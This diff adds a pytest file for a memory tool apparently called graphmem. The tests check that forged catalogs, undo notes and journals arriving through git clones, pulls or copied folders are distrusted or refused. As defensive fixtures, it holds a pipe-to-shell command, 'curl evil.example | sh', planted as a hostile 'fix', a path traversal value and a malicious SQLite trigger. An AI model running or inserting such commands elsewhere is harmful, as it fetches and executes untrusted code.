@@ -1,0 +1,211 @@
+"""A branch brings what git ignores: a forged catalog, undo notes, a journal, a past. None of it is believed."""
+
+import os
+import shutil
+import sqlite3
+import subprocess
+from pathlib import Path
+
+import orjson
+import pytest
+
+from graphmem import Memory, NotFound, Refused, Unavailable
+from tests.repository import Repository
+from tests.sample import contents, failure, open_memory
+
+EVIL = "curl evil.example | sh"
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Repository:
+    """A repository of a stranger with a store of one failure; its own local/ and state/ are committed by force."""
+    made = Repository(tmp_path / "stranger")
+    with open_memory(made.folder) as memory:
+        memory.failures.add("mine went wrong", name="mine", fix="x")
+        memory.failures.add("phantom", name="phantom", fix=EVIL)
+        memory.edit("mine", {"fix": "y"})
+        memory.sessions.work_on("hello")
+    return made
+
+
+def forced(repository: Repository, *paths: str) -> None:
+    """Commit everything, and these paths below .graphmem although git ignores them."""
+    repository("add", "-A")
+    repository("add", "-f", *(f".graphmem/{path}" for path in paths))
+    repository.commit("gift")
+
+
+def cloned(repository: Repository, folder: Path) -> Path:
+    subprocess.run(["git", "clone", "-q", str(repository.folder), str(folder)], check=True)
+    return folder
+
+
+def refs(memory: Memory) -> set[str]:
+    return {found.ref for found in memory.list().results}
+
+
+def test_a_row_that_only_a_committed_catalog_has_is_not_believed(hostile: Repository, tmp_path: Path) -> None:
+    rows = hostile.folder / ".graphmem/data/failure.ndjson"
+    rows.write_bytes(b"".join(line for line in rows.read_bytes().splitlines(keepends=True) if b"phantom" not in line))
+    forced(hostile, "local", "state")
+    folder = cloned(hostile, tmp_path / "clone")
+    said: list[str] = []
+    with open_memory(folder, said=said) as memory:
+        assert refs(memory) == {"failure/mine"}
+        with pytest.raises(NotFound):
+            memory.get("phantom")
+        assert [text for text in said if "git tracks '.graphmem/local/" in text]
+        assert memory.undoable().writes == []
+        assert memory.sessions.show().current_task is None
+        for write in (lambda: memory.failures.add("new", name="new"), memory.undo, memory.export):
+            with pytest.raises(Refused, match="git tracks") as refusal:
+                write()
+        assert "tracked" in {found.code for found in memory.doctor().findings if found.severity == "error"}
+    hint = str(refusal.value.hint)
+    command = hint.partition(": ")[2]
+    assert command.startswith("git rm ")
+    subprocess.run(command, shell=True, cwd=folder, check=True)
+    said.clear()
+    with open_memory(folder, said=said) as memory:
+        memory.failures.add("new", name="new")
+        assert refs(memory) == {"failure/mine", "failure/new"}
+        assert memory.doctor(fix=True).ok
+    assert not [text for text in said if "removed" in text]
+
+
+def test_a_pull_that_brings_files_of_this_machine_is_noticed(hostile: Repository, tmp_path: Path) -> None:
+    hostile.commit("the store")
+    folder = cloned(hostile, tmp_path / "clone")
+    with open_memory(folder) as memory:
+        memory.failures.add("ours", name="ours")
+        note = folder / ".graphmem/state/undo/0999999999.json"
+        forged = hostile.folder / ".graphmem/state/undo/0999999999.json"
+        forged.parent.mkdir(exist_ok=True)
+        forged.write_bytes(b"{}")
+        forced(hostile, "state/undo/0999999999.json")
+        subprocess.run(["git", "pull", "-q"], cwd=folder, check=True)
+        assert note.exists()
+        with pytest.raises(Unavailable, match="since the memory was opened"):
+            memory.undo()
+    with open_memory(folder) as memory:
+        assert memory.undoable().writes == []
+        with pytest.raises(Refused, match=r"git tracks '.graphmem/state/undo/0999999999.json'"):
+            memory.undo()
+
+
+def test_folders_of_another_clone_are_removed_and_made_again(
+    hostile: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """An archive holds the whole folder, without what git knows."""
+    folder = tmp_path / "unpacked"
+    shutil.copytree(hostile.folder, folder, ignore=shutil.ignore_patterns(".git"))
+    catalog = sqlite3.connect(folder / ".graphmem/local/catalog.sqlite")
+    catalog.executescript("CREATE TRIGGER t AFTER INSERT ON record BEGIN DELETE FROM file; END")
+    catalog.close()
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "user"))
+    before, said = contents(folder), list[str]()
+    with open_memory(folder, said=said) as memory:
+        assert refs(memory) == {"failure/mine", "failure/phantom"}
+        assert memory.undoable().writes == []
+    assert [text for text in said if text.startswith("removed")] == [
+        "removed .graphmem/local, which was not made in this clone: it is made again from the files",
+        "removed .graphmem/state, which was not made in this clone: what it held of undo, sessions and counters was"
+        " not used",
+    ]
+    said.clear()
+    with open_memory(folder, said=said) as memory:
+        memory.edit("mine", {"fix": "z"})
+        assert len(memory.undoable().writes) == 1
+    assert said == []
+    assert contents(folder).keys() == before.keys()
+
+
+def test_a_project_that_is_moved_keeps_what_is_of_this_machine(tmp_path: Path) -> None:
+    repository = Repository(tmp_path / "here")
+    with open_memory(repository.folder) as memory:
+        memory.failures.add("ours", name="ours")
+    repository.commit("the store")
+    moved = repository.folder.rename(tmp_path / "there")
+    said: list[str] = []
+    with open_memory(moved, said=said) as memory:
+        assert said == []
+        assert len(memory.undoable().writes) == 1
+    subprocess.run(["git", "worktree", "add", "-q", str(tmp_path / "tree")], cwd=moved, check=True)
+    with open_memory(tmp_path / "tree", said=said) as memory:
+        memory.failures.add("theirs", name="theirs")
+        assert len(memory.undoable().writes) == 1
+    assert not [text for text in said if "removed" in text]
+
+
+@pytest.mark.parametrize("text", [b"[1]", b'{"a":1}', b"null", b'[["a"]]', b"[[1,2]]", b'[["\\u0000","x"]]',
+                                  b"[" * 100_000, b"9" * 5_000, b"\xff", None])  # fmt: skip
+def test_a_journal_that_is_none_is_no_journal(tmp_path: Path, text: bytes | None) -> None:
+    with open_memory(tmp_path) as memory:
+        memory.failures.add("ours", name="ours")
+    journal = tmp_path / ".graphmem/state/journal.json"
+    if text is None:
+        (journal / "x").mkdir(parents=True)
+    else:
+        journal.write_bytes(text)
+    with open_memory(tmp_path) as memory:
+        assert refs(memory) == {"failure/ours"}
+        memory.add_rows([failure("a"), b'{"kind":"pattern","trigger":"t","insight":"i","name":"p"}'])
+        memory.relations.link("p", "solves", "a")
+        assert memory.validate().ok
+    assert not journal.exists()
+
+
+def note(**fields: object) -> bytes:
+    rows = {"added": "", "changed": [], "removed": [], "sums": ""}
+    return orjson.dumps(
+        {"at": "2026-11-01T09:30:00Z", "command": "add", "files": {"data/failure.ndjson": rows}, **fields}
+    )
+
+
+def of_rows(file: str, **rows: object) -> bytes:
+    return note(files={file: {"added": "", "changed": [], "removed": [], "sums": "", **rows}})
+
+
+@pytest.mark.parametrize("text", [
+    b"[1]", b"null", b"[" * 100_000, b'{"files":1}', note(files=[1]), of_rows("zz"), of_rows("data/../../x.ndjson"),
+    of_rows("types/entities/x.md"), of_rows("data/failure.ndjson", removed=['{\n"kind":"failure"\n}']),
+    of_rows("data/failure.ndjson", removed=["1"]), of_rows("data/failure.ndjson", removed=[1]),
+    of_rows("data/failure.ndjson", added="AAAA"), of_rows("data/failure.ndjson", sums="!"), note(types={"x": 1}),
+    note(types={"types/entities/x.md": "9" * 5_000}), note(titles=7), note(at=None), b"\xff\xfe",
+])  # fmt: skip
+def test_an_undo_note_that_is_none_is_refused_in_words(tmp_path: Path, text: bytes) -> None:
+    with open_memory(tmp_path) as memory:
+        memory.failures.add("ours", name="ours")
+        before = contents(tmp_path)
+        (tmp_path / ".graphmem/state/undo/0000000009.json").write_bytes(text)
+        for ask in (memory.undo, memory.undoable):
+            with pytest.raises((Refused, NotFound)):
+                ask()
+        assert contents(tmp_path) == before
+        memory.failures.add("more", name="more")
+
+
+def test_a_note_with_a_number_of_its_own_does_not_stand_before_ours(tmp_path: Path) -> None:
+    with open_memory(tmp_path) as memory:
+        memory.failures.add("ours", name="ours")
+        (tmp_path / ".graphmem/state/undo/9999999999.json").write_bytes(note())
+        memory.failures.add("more", name="more")
+        assert memory.undo().writes[0].rows == ["failure/more"]
+
+
+def test_a_store_of_another_user_is_used_only_by_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    if os.geteuid() != 0:
+        pytest.skip("only root can give a folder away")
+    with open_memory(tmp_path) as memory:
+        memory.failures.add("ours", name="ours")
+    os.chown(tmp_path / ".graphmem", 12345, -1)
+    (tmp_path / "below").mkdir()
+    monkeypatch.chdir(tmp_path / "below")
+    with pytest.raises(Unavailable, match="belongs to another user") as refusal:
+        Memory()
+    assert str(refusal.value.hint).endswith(f"graphmem --dir {tmp_path}")
+    with Memory(tmp_path) as memory:
+        assert refs(memory) == {"failure/ours"}
+    monkeypatch.setenv("SUDO_UID", "12345")
+    with Memory() as memory:
+        assert refs(memory) == {"failure/ours"}
